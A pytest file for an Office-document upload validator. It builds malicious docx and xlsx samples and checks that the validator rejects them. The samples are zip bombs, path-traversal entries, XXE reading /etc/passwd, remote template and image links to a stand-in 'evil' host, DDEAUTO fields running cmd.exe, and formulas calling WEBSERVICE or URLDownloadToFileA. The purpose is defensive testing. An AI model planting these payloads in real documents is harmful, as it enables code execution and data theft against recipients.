"""docx and xlsx: nothing that unpacks to too much, leads out, runs, is fetched or is hidden."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest

from guiguan.bench.uploads import good_file, office_parts, packed

LINKS = '<?xml version="1.0"?><Relationships xmlns="r">%s</Relationships>'
LINK = '<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>'
OUT = ' TargetMode="External"'


def docx(*extra: tuple[str, str | bytes]) -> bytes:
    """A good document with these parts added or put in the place of its own."""
    parts = dict(office_parts("docx"))
    parts |= {name: body.encode() if isinstance(body, str) else body for name, body in extra}
    return packed(list(parts.items()))


def test_good_ones_pass(judge: Callable[..., str]) -> None:
    assert judge("ooxml", good_file("docx"), kind="docx") == "accepted"
    assert judge("ooxml", good_file("xlsx"), kind="xlsx") == "accepted"


@pytest.mark.parametrize(("content", "kind"), [("docx", "xlsx"), ("xlsx", "docx")])
def test_one_named_as_the_other(judge: Callable[..., str], content: str, kind: str) -> None:
    assert judge("ooxml", good_file(content), kind=kind) == "type"  # type: ignore[arg-type]  # one of the kinds


def test_an_archive_that_is_no_document(judge: Callable[..., str]) -> None:
    assert judge("ooxml", packed([("a.xml", b"<a/>")]), kind="docx") == "broken"


# too much


def test_flat_bomb(judge: Callable[..., str]) -> None:
    assert judge("ooxml", docx(("word/a.bin", bytes(150_000_000))), kind="docx") == "bomb"


def test_many_small_bombs_together(judge: Callable[..., str]) -> None:
    made = io.BytesIO(good_file("docx"))
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for i in range(205):
            archive.writestr(f"word/{i}.bin", bytes(1_000_000))
    assert judge("ooxml", made.getvalue(), kind="docx") == "bomb"


def test_too_many_parts(judge: Callable[..., str]) -> None:
    assert judge("ooxml", docx(*((f"word/{i}.xml", "<a/>") for i in range(2_000))), kind="docx") == "bomb"


def test_nested_archive(judge: Callable[..., str]) -> None:
    inner = packed([("zeros", bytes(5_000_000))])
    assert judge("ooxml", docx(("word/media/image1.png", inner)), kind="docx") == "active"


def test_overlapping_parts(judge: Callable[..., str]) -> None:
    """Two entries of the directory share one packed body, as in the bomb of 42 KB to 5 GB."""
    body = good_file("docx")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        start, last = archive.start_dir, archive.infolist()[-1]
    directory = body[start:-22]
    entry = directory[directory.rindex(b"PK\x01\x02") :]
    twin = entry.replace(last.filename.encode(), last.filename[:-1].encode() + b"k")
    both = directory + twin
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 4, 4, len(both), start, 0)
    assert judge("ooxml", body[:start] + both + end, kind="docx") == "broken"


# lies and paths


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word/../../x", "C:evil.xml", "word\\a.xml"])
def test_zip_slip(judge: Callable[..., str], name: str) -> None:
    assert judge("ooxml", docx((name, "<a/>")), kind="docx") == "traversal"


def test_symlink(judge: Callable[..., str]) -> None:
    made = io.BytesIO(good_file("docx"))
    with zipfile.ZipFile(made, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert judge("ooxml", made.getvalue(), kind="docx") == "traversal"


def test_names_that_differ_only_in_case(judge: Callable[..., str]) -> None:
    assert judge("ooxml", docx(("WORD/document.XML", "<a/>")), kind="docx") == "broken"


def test_a_directory_that_lies_about_a_name(judge: Callable[..., str]) -> None:
    body = good_file("docx")
    assert (
        judge("ooxml", body.replace(b"word/document.xml", b"word/dokument.xml", 1), kind="docx") == "broken"
    )


def test_a_directory_that_lies_about_a_size(judge: Callable[..., str]) -> None:
    made = bytearray(docx(("word/a.xml", "<a>" + "b" * 9000 + "</a>")))
    at = made.rindex(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<L", 10)  # the unpacked size
    assert judge("ooxml", bytes(made), kind="docx") == "broken"


@pytest.mark.parametrize("where", ["before", "behind", "comment"])
def test_something_around_the_archive(judge: Callable[..., str], where: str) -> None:
    page, body = b"<script>alert(1)</script>", good_file("docx")
    made = {"before": page + body, "behind": body + page}.get(
        where, body[:-2] + struct.pack("<H", len(page)) + page
    )
    assert judge("ooxml", made, kind="docx") == "broken"


def test_encrypted_part_and_odd_packing(judge: Callable[..., str]) -> None:
    body = bytearray(good_file("docx"))
    at = body.rindex(b"PK\x01\x02")
    locked, odd = body[:], body[:]
    locked[at + 8] |= 1
    odd[at + 10] = 12
    assert judge("ooxml", bytes(locked), kind="docx") == "encrypted"
    assert judge("ooxml", bytes(odd), kind="docx") == "broken"


def test_truncated(judge: Callable[..., str]) -> None:
    body = good_file("docx")
    for length in (4, 30, len(body) // 2, len(body) - 1):
        assert judge("ooxml", body[:length], kind="docx") == "broken"


# XML

XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


@pytest.mark.parametrize(
    "text", [XXE, LAUGHS, '<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>', "<!DOCTYPE a><a/>"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("name", ["word/document.xml", "customXml/item1.xml", "word/media/image1.svg"])
def test_doctype_in_any_part_and_encoding(
    judge: Callable[..., str], text: str, encoding: str, name: str
) -> None:
    declared = '<?xml version="1.0"?>' if encoding in ("utf-8", "utf-16") else ""
    assert judge("ooxml", docx((name, (declared + text).encode(encoding))), kind="docx") == "doctype"


def test_doctype_behind_a_long_comment(judge: Callable[..., str]) -> None:
    text = "<!--" + "x" * 600_000 + "--><!DOCTYPE a><a/>"
    assert judge("ooxml", docx(("word/a.xml", text)), kind="docx") == "doctype"


def test_an_encoding_that_office_never_writes(judge: Callable[..., str]) -> None:
    text = '<?xml version="1.0" encoding="cp037"?><a/>'
    assert judge("ooxml", docx(("word/a.xml", text)), kind="docx") == "broken"


# what runs


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("word/vbaProject.bin", "macro"),
        ("word/VBAproject.BIN", "macro"),
        ("word/vbaData.xml", "macro"),
        ("xl/macrosheets/sheet1.xml", "macro"),
        ("word/activeX/activeX1.xml", "active"),
        ("word/embeddings/oleObject1.bin", "active"),
        ("word/embeddings/Book1.xlsx", "active"),
        ("xl/externalLinks/externalLink1.xml", "active"),
        ("word/run.exe", "active"),
    ],
)
def test_parts_by_name(judge: Callable[..., str], name: str, reason: str) -> None:
    assert judge("ooxml", docx((name, "<a/>")), kind="docx") == reason


def test_an_old_container_under_a_harmless_name(judge: Callable[..., str]) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    assert judge("ooxml", docx(("word/media/image1.png", ole)), kind="docx") == "active"


def test_a_macro_document_by_its_content_type(judge: Callable[..., str]) -> None:
    types = dict(office_parts("docx"))["[Content_Types].xml"]
    macro = types.replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )
    assert macro != types
    assert judge("ooxml", docx(("[Content_Types].xml", macro)), kind="docx") == "macro"


@pytest.mark.parametrize(
    ("sort", "target", "mode", "verdict"),
    [
        ("attachedTemplate", "http://evil/t.dotm", OUT, "active"),
        ("attachedTemplate", "file:///C:/Normal.dotm", OUT, "active"),
        ("image", "http://evil/pixel.png", OUT, "active"),
        ("frame", "http://evil/", OUT, "active"),
        ("oleObject", "embeddings/a.bin", "", "active"),
        ("aFChunk", "chunk.html", "", "active"),
        ("vbaProject", "a.bin", "", "macro"),
        ("externalLinkPath", "http://evil/a.xlsx", OUT, "active"),
        ("image", "http://evil/pixel.png", "", "active"),
        ("hyperlink", "javascript:alert(1)", OUT, "active"),
        ("hyperlink", "file:\\\\evil\\share", OUT, "active"),
        ("hyperlink", "\\\\evil\\share", OUT, "active"),
        ("hyperlink", "https://www.gov.cn/?a=1&amp;b=案例", OUT, "accepted"),
        ("hyperlink", "mailto:a@example.com", OUT, "accepted"),
        ("hyperlink", "附件.docx", OUT, "accepted"),
        ("image", "media/image1.png", "", "accepted"),
    ],
)
def test_relationships(judge: Callable[..., str], sort: str, target: str, mode: str, verdict: str) -> None:
    made = docx(("word/_rels/document.xml.rels", LINKS % (LINK % (sort, target, mode))))
    assert judge("ooxml", made, kind="docx") == verdict


def field(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        (field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "active"),
        (field("D", "DE", "AUTO cmd x"), "active"),
        (field(" dde Excel Book1"), "active"),
        ('<w:fldSimple w:instr="DDE cmd x"/>', "active"),
        ("<w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r>", "active"),
        (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field(" QUOTE 68 68 69")
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
            "active",
        ),
        ("<w:object><o:OLEObject/></w:object>", "active"),
        ('<w:altChunk r:id="a"/>', "active"),
        (field(" PAGE "), "accepted"),
        (field(' TOC \\o "1-3" \\h'), "accepted"),
        (field(" MACROBUTTON NoMacro [点击输入]"), "accepted"),
        (field(' HYPERLINK "https://www.gov.cn" '), "accepted"),
    ],
)
def test_fields(judge: Callable[..., str], body: str, verdict: str) -> None:
    text = f'<w:document xmlns:w="w" xmlns:o="o" xmlns:r="r"><w:body><w:p>{body}</w:p></w:body></w:document>'
    assert judge("ooxml", docx(("word/document.xml", text)), kind="docx") == verdict


@pytest.mark.parametrize(
    ("formula", "verdict"),
    [
        ("cmd|'/c calc'!A0", "active"),
        ('WEBSERVICE("http://evil/")', "active"),
        ('1+webservice ("http://evil/")', "active"),
        ('CALL("urlmon","URLDownloadToFileA")', "active"),
        ("SUM(A1:A9)", "accepted"),
        ("RECALL(1)", "accepted"),
        ("Sheet1!A1&amp;&quot;|&quot;", "accepted"),
    ],
)
def test_formulas(judge: Callable[..., str], formula: str, verdict: str) -> None:
    parts = dict(office_parts("xlsx"))
    sheet = f'<worksheet xmlns="x"><row><c><f>{formula}</f></c></row></worksheet>'
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    assert judge("ooxml", packed(list(parts.items())), kind="xlsx") == verdict


def test_old_drawings_that_are_no_proper_xml(judge: Callable[..., str]) -> None:
    assert (
        judge("ooxml", docx(("xl/drawings/vmlDrawing1.vml", "<xml><br><v:shape/></xml>")), kind="docx")
        == "accepted"
    )
    assert (
        judge("ooxml", docx(("xl/drawings/vmlDrawing1.vml", "<xml><br><!DOCTYPE a></xml>")), kind="docx")
        == "doctype"
    )
